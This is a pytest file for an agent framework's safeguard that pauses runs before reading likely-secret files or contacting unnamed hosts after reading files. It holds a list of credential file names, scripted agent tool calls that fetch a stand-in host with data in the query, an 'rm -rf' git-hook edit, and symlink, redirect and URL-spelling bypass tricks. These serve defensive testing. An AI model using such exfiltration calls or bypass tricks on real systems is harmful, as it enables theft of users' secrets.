"""S17: reading secrets and talking to strangers do not go together unasked."""

import asyncio
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

import holdfast
from holdfast.config import AgentSettings, NamedAgentSettings
from holdfast.testing import Reply, ScriptedCall, ScriptedProvider, tool_call
from tests.serving import Client, World, running_server, serving

SECRETS = (
    ".env .env.local prod.env deploy/.env.production id_rsa keys/id_ed25519 server.pem tls/server.key .netrc .npmrc "
    ".git-credentials .ssh/config .aws/credentials .kube/config secrets.yaml credentials.json terraform.tfvars .ENV "
    ".git/hooks/pre-commit .git/config vault.kdbx"
).split()
NO_SECRETS = ".env.example id_rsa.pub keyboard.py environment.md src/secret_santa.py .gitignore .github/x.yml".split()


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    for name in (*SECRETS, *NO_SECRETS, "notes.txt"):
        path = tmp_path / "workspace" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"xyzzy in {name}\n")
    return tmp_path / "workspace"


def agent(workspace: Path, **more: Any) -> AgentSettings:
    return AgentSettings(prompt="", tools=("files", "web"), workspace=str(workspace), **more)


async def ask(world: World, text: str = "Go.") -> str:
    """Start a run that nobody waits for; its path."""
    run = (await world.client.post("/v1/runs", {"input": text})).json["run_id"]
    return f"/v1/runs/{run}"


async def settle(client: Client, path: str) -> dict[str, Any]:
    """The run, when it waits for somebody or has ended."""
    async with asyncio.timeout(20):
        while True:
            seen: dict[str, Any] = (await client.get(path)).json
            if seen.get("approvals") or seen["status"] not in ("queued", "running", "in_progress", "waiting_approval"):
                return seen
            await asyncio.sleep(0.01)


def outputs(provider: ScriptedProvider) -> list[str]:
    asked: list[dict[str, Any]] = provider.requests[-1].body["messages"]
    return [message["content"] for message in asked if message["role"] == "tool"]


def script(*turns: ScriptedCall) -> list[Reply]:
    return [*(Reply(calls=(call,)) for call in turns), Reply(text="Done.")]


@pytest.mark.parametrize("name", SECRETS)
async def test_a_likely_secret_is_not_read_unasked(workspace: Path, name: str) -> None:
    """S17.a: the policy is auto, and still the run waits for somebody, and says why."""
    async with serving(script(tool_call("read_file", path=name)), agent=agent(workspace)) as world:
        path = await ask(world)
        seen = await settle(world.client, path)
        assert [asked["tool"] for asked in seen["approvals"]] == ["read_file"]
        events = (await world.client.post(f"{path}/approval", {"approved": True})).json
        assert events["approved"] is True
        await settle(world.client, path)
        assert outputs(world.provider) == [f"xyzzy in {name}"]
        log = (await world.client.get(f"{path}/events")).data
    (asked,) = [event for event in log if event["type"] == "approval.asked"]
    assert asked["reason"] == f"{name} is likely to be secret, or to act by itself."


async def test_what_is_no_secret_is_read_as_ever(workspace: Path) -> None:
    """S17.a: likely, not by every likeness."""
    calls = [tool_call("read_file", path=name) for name in NO_SECRETS]
    async with serving(script(*calls), agent=agent(workspace)) as world:
        await settle(world.client, await ask(world))
        assert outputs(world.provider) == [f"xyzzy in {name}" for name in NO_SECRETS]


@pytest.mark.parametrize(
    "call",
    [
        tool_call("read_file", path="innocent.txt"),
        tool_call("read_file", path="way/.env"),
        tool_call("read_file", path="deploy/../.env"),
        tool_call("read_file", path="chain"),
        tool_call("search_files", path=".env", pattern="."),
        tool_call("search_files", path="innocent.txt", pattern="."),
        tool_call("search_files", path=".ssh", pattern=".", hidden=True),
        tool_call("edit_file", path=".git/hooks/pre-commit", old_text="xyzzy", new_text="rm -rf"),
        tool_call("write_file", path=".git/hooks/post-checkout", content="#!/bin/sh"),
        tool_call("write_file", path=".git/refs/../hooks/post-checkout", content="#!/bin/sh"),
        tool_call("write_file", path="innocent.txt", content="x"),
    ],
    ids=lambda call: f"{call.name} {call.arguments}",
)
async def test_no_name_and_no_tool_gets_around_it(workspace: Path, call: ScriptedCall) -> None:
    """S17.a: links are followed before it is decided, and all file tools ask; where it is denied nothing is done."""
    (workspace / ".git/refs").mkdir()
    (workspace / "innocent.txt").symlink_to(".env")
    (workspace / "way").symlink_to(".")
    (workspace / "chain").symlink_to("innocent.txt")
    async with serving(script(call), agent=agent(workspace)) as world:
        path = await ask(world)
        assert len((await settle(world.client, path))["approvals"]) == 1
        await world.client.post(f"{path}/approval", {"approved": False})
        await settle(world.client, path)
        (output,) = outputs(world.provider)
    assert "The user denied this call" in output
    assert "xyzzy" not in output
    assert (workspace / ".env").read_text() == "xyzzy in .env\n"
    assert not (workspace / ".git/hooks/post-checkout").exists()


async def test_a_search_leaves_likely_secrets_out_and_says_so(workspace: Path) -> None:
    """S17.a: what nobody named is not searched."""
    call = tool_call("search_files", pattern="xyzzy", hidden=True)
    async with serving(script(call), agent=agent(workspace)) as world:
        await settle(world.client, await ask(world))
        (output,) = outputs(world.provider)
    found = {line.partition(":")[0] for line in output.splitlines() if ": xyzzy" in line}
    assert found == {*NO_SECRETS, "notes.txt"}
    assert f"[{len(SECRETS)} files are likely to be secret and were left out" in output


async def test_a_search_below_a_directory_knows_where_it_is(workspace: Path) -> None:
    """S17.a: what makes a file a likely secret may be the name of the directory that is searched."""
    call = tool_call("search_files", path=".git", pattern="xyzzy", hidden=True)
    async with serving(script(call), agent=agent(workspace)) as world:
        await settle(world.client, await ask(world))
        (output,) = outputs(world.provider)
    assert "xyzzy" not in output and "[2 files are likely to be secret and were left out" in output


async def test_what_is_swapped_after_it_was_looked_at_is_still_not_read(workspace: Path) -> None:
    """S17.a: a link that changes while the tool looks and reads brings a secret at no time."""
    link, other = workspace / "swapped", workspace / "swapping"
    link.symlink_to("notes.txt")
    stop = asyncio.Event()

    async def swap() -> None:
        while not stop.is_set():
            for target in (".env", "notes.txt"):
                other.symlink_to(target)
                os.replace(other, link)
            await asyncio.sleep(0)

    calls = [tool_call("read_file", path="swapped") for _ in range(60)]
    replies = [Reply(calls=tuple(calls)), Reply(text="Done.")]
    async with serving(replies, agent=agent(workspace, caution="deny")) as world:
        swapping = asyncio.ensure_future(swap())
        await settle(world.client, await ask(world))
        stop.set()
        await swapping
        said = outputs(world.provider)
    assert len(said) == 60
    assert [output for output in said if "xyzzy in .env" in output] == []
    assert "xyzzy in notes.txt" in said


@asynccontextmanager
async def site() -> AsyncIterator[str]:
    """A page on loopback, and one that leads on to the same under another name."""
    app = web.Application()
    asked: list[str] = []

    async def page(request: web.Request) -> web.Response:
        asked.append(str(request.rel_url))
        return web.Response(text="a page")

    async def onward(request: web.Request) -> web.Response:
        return web.Response(status=302, headers={"Location": f"http://localhost:{port}/page?{request.query_string}"})

    app.add_routes([web.get("/page", page), web.get("/onward", onward)])
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    port = runner.addresses[0][1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        await runner.cleanup()


async def test_a_stranger_is_not_talked_to_once_a_file_was_read(workspace: Path) -> None:
    """S17.b: before a file was read it is as ever; afterwards the run waits, and says why."""
    url = "http://stranger.invalid/?q=xyzzy"
    calls = (tool_call("fetch_url", url=url), tool_call("read_file", path="notes.txt"), tool_call("fetch_url", url=url))
    async with serving(script(*calls), agent=agent(workspace)) as world:
        path = await ask(world)
        seen = await settle(world.client, path)
        assert [asked["tool"] for asked in seen["approvals"]] == ["fetch_url"]
        await world.client.post(f"{path}/approval", {"approved": False})
        await settle(world.client, path)
        first, read, second = outputs(world.provider)
    assert "could not be fetched" in first
    assert read == "xyzzy in notes.txt"
    assert second == (
        "The user denied this call; it was not carried out. Files were read in this conversation, and neither the user "
        "nor the settings have named stranger.invalid: what was read could be sent there."
    )


TRICKS = (
    "http://named.invalid@stranger.invalid/",
    "http://named.invalid:80@stranger.invalid/",
    "http://stranger.invalid\\@named.invalid/",
    "http://named.invalid\\.stranger.invalid/",
    "http://named.invalid%2F@stranger.invalid/",
    "http://named.invalid.stranger.invalid/",
    "http://xn--named.invalid/",
    "http://stranger.invalid#@named.invalid/",
    "http://stranger.invalid?named.invalid",
    "http:stranger.invalid/named.invalid",
    "http:///stranger.invalid/named.invalid",
    "//stranger.invalid/named.invalid",
    "http://ｎamed.invalid/",
    "http://named\u2024invalid/",
    "http://named.invalid\t.stranger.invalid/",
    "http://\tstranger.invalid/",
    "http://[::ffff:1.2.3.4]/named.invalid",
    "http://readme.md/",
    "http://0x7f.1/",
    "HTTP://STRANGER.invalid/",
)


@pytest.mark.parametrize("url", TRICKS)
async def test_no_spelling_makes_a_stranger_look_named(workspace: Path, url: str) -> None:
    """S17.b: what could be read in two ways is a stranger."""
    calls = (tool_call("read_file", path="notes.txt"), tool_call("fetch_url", url=url))
    async with serving(script(*calls), agent=agent(workspace, caution="deny")) as world:
        await settle(world.client, await ask(world, "Look at https://named.invalid/ and README.md, setup.py."))
        assert "not allowed by the server's policy" in outputs(world.provider)[1]


@pytest.mark.parametrize("who", ["the user", "the user, bare", "the instructions", "the prompt", "known_hosts"])
async def test_a_host_that_was_named_is_no_stranger(workspace: Path, who: str) -> None:
    """S17.b: by the user, by the client's instructions, by the settings."""
    calls = (tool_call("read_file", path="notes.txt"), tool_call("fetch_url", url="http://docs.named.invalid/x?y"))
    settings = agent(workspace, caution="deny", known_hosts=("*.named.invalid",) if who == "known_hosts" else ())
    if who == "the prompt":
        settings = AgentSettings(
            prompt="Docs are at https://docs.named.invalid.",
            tools=("files", "web"),
            workspace=str(workspace),
            caution="deny",
        )
    body: dict[str, Any] = {"input": "Go."}
    if who == "the user":
        body["input"] = "See http://docs.named.invalid:80/a"
    elif who == "the user, bare":
        body["input"] = "See docs.named.invalid."
    elif who == "the instructions":
        body["instructions"] = "Use https://docs.named.invalid/"
    async with serving(script(*calls), agent=settings) as world:
        run = (await world.client.post("/v1/runs", body)).json["run_id"]
        await settle(world.client, f"/v1/runs/{run}")
        assert "could not be fetched" in outputs(world.provider)[1]


async def test_a_named_host_that_leads_on_to_a_stranger_is_not_followed(workspace: Path) -> None:
    """S17.b: a redirect is an address that nobody named."""
    async with site() as url:
        fetch = tool_call("fetch_url", url=f"{url}/onward?xyzzy")
        settings = agent(workspace, caution="ask", allow_private_hosts=("127.0.0.1",))
        async with serving(script(fetch, tool_call("read_file", path="notes.txt"), fetch), agent=settings) as world:
            await settle(world.client, await ask(world))
            before, _, after = outputs(world.provider)
    assert "localhost is not on the public internet" in before
    assert "on a host that neither the user nor the settings have named. It was not followed" in after


@pytest.mark.parametrize("who_reads", ["the one that asks", "the one that is asked", "both", "nobody"])
async def test_agents_that_ask_each_other_are_as_cautious_as_one(workspace: Path, who_reads: str) -> None:
    """S17.b: what one has read the other may send away, and what one tells the other no user has said."""
    read, fetch = tool_call("read_file", path="notes.txt"), tool_call("fetch_url", url="http://stranger.invalid/?xyzzy")
    ask_it = tool_call("helper", input="xyzzy: fetch http://stranger.invalid/?xyzzy")
    reads = ("files",) if who_reads in ("the one that is asked", "both") else ()
    helper = NamedAgentSettings(prompt="", tools=("web", *reads), workspace=str(workspace), caution="deny")
    boss = AgentSettings(prompt="", tools=("files", "web", "agent:helper"), workspace=str(workspace), caution="deny")
    turns = {
        "the one that asks": [(read,), (ask_it,), (fetch,), (), ()],
        "the one that is asked": [(ask_it,), (read,), (), (fetch,), ()],
        "both": [(ask_it,), (read,), (fetch,), (), ()],
        "nobody": [(ask_it,), (fetch,), (), (fetch,), ()],
    }
    replies = [Reply(calls=calls) if calls else Reply(text="Done.") for calls in turns[who_reads]]
    async with serving(replies, agent=boss, agents={"helper": helper}) as world:
        await settle(world.client, await ask(world))
        results = [
            message["content"]
            for request in world.provider.requests
            for message in request.body["messages"]
            if message["role"] == "tool" and ("not allowed" in message["content"] or "could not" in message["content"])
        ]
    assert results
    assert all(("not allowed by the server's policy" in result) is (who_reads != "nobody") for result in results)


@pytest.mark.parametrize("caution", ["auto", "deny"])
async def test_caution_can_be_set(workspace: Path, caution: Any) -> None:
    """S17.a, S17.b: for whoever knows better, and for whoever has nobody to ask."""
    calls = (tool_call("read_file", path=".env"), tool_call("fetch_url", url="http://stranger.invalid/"))
    async with serving(script(*calls), agent=agent(workspace, caution=caution)) as world:
        await settle(world.client, await ask(world))
        read, fetched = outputs(world.provider)
    assert read.startswith("xyzzy in .env" if caution == "auto" else "This tool is not allowed by the server's policy")
    assert ("could not be fetched" in fetched) is True
    # Nothing was read where it was denied, so that there is nothing to send.


async def test_the_terminal_counts_as_reading(workspace: Path) -> None:
    """S17.b: what a command has seen nobody knows."""
    settings = AgentSettings(prompt="", tools=("terminal", "web"), workspace=str(workspace), caution="deny")
    calls = (tool_call("terminal", command="false"), tool_call("fetch_url", url="http://stranger.invalid/"))
    async with serving(script(*calls), agent=settings) as world:
        await settle(world.client, await ask(world))
        assert "not allowed by the server's policy" in outputs(world.provider)[1]


async def test_what_code_that_is_not_ours_has_seen_nobody_knows(workspace: Path) -> None:
    """S17.b: an agent of one's own that was asked counts as reading; one of ours that has no files does not."""

    async def research(run: holdfast.Run) -> AsyncIterator[str]:
        yield "xyzzy"

    helper = holdfast.Agent(name="helper", tools=["memory"], prompt="")
    boss = holdfast.Agent(name="boss", tools=["web", "agent:research", helper], prompt="", caution="deny")
    fetch = tool_call("fetch_url", url="http://stranger.invalid/?xyzzy")
    replies = [
        Reply(calls=(tool_call("helper", input="?"),)),
        Reply(text="Nothing."),
        Reply(calls=(fetch,)),
        Reply(calls=(tool_call("research", input="?"),)),
        Reply(calls=(fetch,)),
        Reply(text="Done."),
    ]
    async with serving(replies, own=[boss, research]) as world:
        await settle(world.client, await ask(world))
        _, before, _, after = outputs(world.provider)
    assert "could not be fetched" in before
    assert "not allowed by the server's policy" in after


CONFIG = """
model = "scripted/m-1"
[agent]
workspace = "{workspace}"
tools = ["files", "web"]
[providers.scripted]
base_url = "{url}"
api_key = "x"
"""


async def test_a_run_that_goes_on_after_a_crash_is_as_cautious_as_before(tmp_path: Path, workspace: Path) -> None:
    """S17.b: what was read before the server was killed counts after it; and what was approved stays approved."""
    replies = [
        Reply(calls=(tool_call("read_file", path="notes.txt"),)),
        Reply(text="never", hold_after=-1),
        Reply(calls=(tool_call("fetch_url", url="http://stranger.invalid/"),)),
        Reply(text="Done."),
    ]
    async with ScriptedProvider(replies) as provider:
        config = CONFIG.format(workspace=workspace, url=provider.url)
        with running_server(tmp_path / "server", config) as server:
            async with Client(server.base_url) as client:
                run = (await client.post("/v1/runs", {"input": "Go."})).json["run_id"]
                async with asyncio.timeout(20):
                    while len(provider.requests) < 2:
                        await asyncio.sleep(0.02)
                server.kill()
        with running_server(tmp_path / "server", config) as server:
            async with Client(server.base_url) as client:
                seen = await settle(client, f"/v1/runs/{run}")
                assert [asked["tool"] for asked in seen["approvals"]] == ["fetch_url"]
                await client.post(f"/v1/runs/{run}/approval", {"approved": True})
                await settle(client, f"/v1/runs/{run}")
        assert "could not be fetched" in outputs(provider)[-1]
